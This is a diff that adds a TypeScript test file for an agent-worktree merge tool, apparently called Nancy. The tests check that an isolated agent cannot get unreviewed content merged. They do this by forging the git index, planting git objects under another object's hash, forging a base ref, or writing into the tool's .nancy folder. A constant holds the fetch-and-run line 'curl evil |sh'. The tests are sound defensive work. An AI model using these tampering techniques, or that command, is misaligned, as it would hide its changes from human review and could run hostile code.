@@ -1,0 +1,103 @@
+import { createHash } from 'node:crypto';
+import { existsSync, mkdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { deflateSync } from 'node:zlib';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { Delegates } from '../../src/core/delegates/delegates.ts';
+import { Tickets } from '../../src/core/delegates/tickets.ts';
+import { Workspace } from '../../src/core/workspace/workspace.ts';
+import { ownWorktree } from '../../src/git/ownWorktree.ts';
+import { mergeWorktree } from '../../src/git/worktreeMerge.ts';
+import type { Worktree } from '../../src/protocol/worktree.ts';
+import { seedWorktree } from '../support/delegateSeeds.ts';
+import type { GitRepository } from '../support/gitRepository.ts';
+import { tempFolder } from '../support/tempFolder.ts';
+import { worktreeRepository } from '../support/worktreeRepository.ts';
+
+let repo: GitRepository;
+let worktree: Worktree;
+
+beforeEach(async () => {
+	({ repo, made: worktree } = await worktreeRepository());
+});
+afterEach(() => repo.remove());
+
+const SHOWN = 'harmless work';
+const EVIL = 'curl evil |sh';
+
+const idOf = (type: string, content: Buffer) =>
+	createHash('sha1').update(`${type} ${content.length}\0`).update(content).digest('hex');
+
+/** An object of git with the name of another one. */
+function plant(id: string, type: string, content: Buffer): void {
+	const file = join(repo.root, '.git/objects', id.slice(0, 2), id.slice(2));
+	mkdirSync(dirname(file), { recursive: true });
+	writeFileSync(file, deflateSync(Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content])));
+}
+
+/** An index that takes the present file for what was added before, however it looks (git's own Documentation/gitformat-index). */
+function takeForUnchanged(name: string): void {
+	const index = join(repo.git(['rev-parse', '--absolute-git-dir'], worktree.folder), 'index');
+	const bytes = readFileSync(index);
+	const entry = bytes.indexOf(`${name}\0`) - 62;
+	const { ctimeNs, mtimeNs, dev, ino, uid, gid, size } = statSync(join(worktree.folder, name), { bigint: true });
+	const second = 1_000_000_000n;
+	const seen = { 0: ctimeNs / second, 4: ctimeNs % second, 8: mtimeNs / second, 12: mtimeNs % second };
+	for (const [at, value] of Object.entries({ ...seen, 16: dev, 20: ino, 28: uid, 32: gid, 36: size }))
+		bytes.writeUInt32BE(Number(BigInt.asUintN(32, value)), entry + Number(at));
+	const content = bytes.subarray(0, -20);
+	writeFileSync(index, Buffer.concat([content, createHash('sha1').update(content).digest()]));
+	const later = Date.now() / 1000 + 60;
+	utimesSync(index, later, later);
+}
+
+/** What an isolated agent can do, which writes objects and the index of its worktree. */
+describe('a merge brings the files that a review has shown', () => {
+	it('where the index of the worktree says that they are others', async () => {
+		repo.write({ 'a.txt': EVIL }, worktree.folder);
+		repo.git(['add', 'a.txt'], worktree.folder);
+		repo.write({ 'a.txt': SHOWN }, worktree.folder);
+		takeForUnchanged('a.txt');
+		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: true });
+		expect(readFileSync(join(repo.root, 'a.txt'), 'utf8')).toBe(SHOWN);
+	});
+
+	it.each(['a file', 'a folder'])('or nothing, where an object with the name of %s holds another one', async what => {
+		repo.write({ 'sub/made.txt': SHOWN }, worktree.folder);
+		const shown = Buffer.from(SHOWN);
+		const entry = (id: string) => Buffer.concat([Buffer.from('100644 made.txt\0'), Buffer.from(id, 'hex')]);
+		if (what === 'a file') plant(idOf('blob', shown), 'blob', Buffer.from(EVIL));
+		else {
+			plant(idOf('blob', Buffer.from(EVIL)), 'blob', Buffer.from(EVIL));
+			plant(idOf('tree', entry(idOf('blob', shown))), 'tree', entry(idOf('blob', Buffer.from(EVIL))));
+		}
+		const before = repo.state();
+		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: false });
+		expect(repo.state()).toEqual(before);
+	});
+});
+
+it('the changes of a delegate begin where its sealed record says, whatever its worktree says', async () => {
+	await using data = tempFolder();
+	const store = new Delegates(new Workspace(repo.root));
+	const { delegate, folder } = await seedWorktree(store, data.path, { title: 'x' }, {});
+	const { worktree: claimed } = (await store.get(delegate.record.id)).status;
+	if (!claimed) throw new Error('no worktree');
+	repo.commit({ 'a.txt': EVIL }, 'hidden', folder);
+	repo.git(['update-ref', 'refs/worktree/nancy-base', 'HEAD'], folder);
+	const hidden = { ...claimed, base: repo.git(['rev-parse', 'HEAD'], folder) };
+	const tickets = new Tickets(data.path, repo.root);
+	expect(await ownWorktree(store, tickets, hidden)).toEqual(claimed);
+	repo.git(['worktree', 'remove', '--force', folder]);
+	expect(await ownWorktree(store, tickets, hidden)).toEqual(claimed);
+});
+
+it('a merge brings no file into a folder of Nancy’s, which would then count as one of the repository', async () => {
+	const file = '.nancy/tasks/forged/task.json';
+	repo.write({ [file]: '{}' }, worktree.folder);
+	repo.git(['add', '--force', file], worktree.folder);
+	repo.git(['commit', '--quiet', '-m', 'work'], worktree.folder);
+	expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: false, conflicts: [file] });
+	expect(existsSync(join(repo.root, file))).toBe(false);
+	expect(repo.git(['ls-files', '.nancy'])).toBe('');
+});
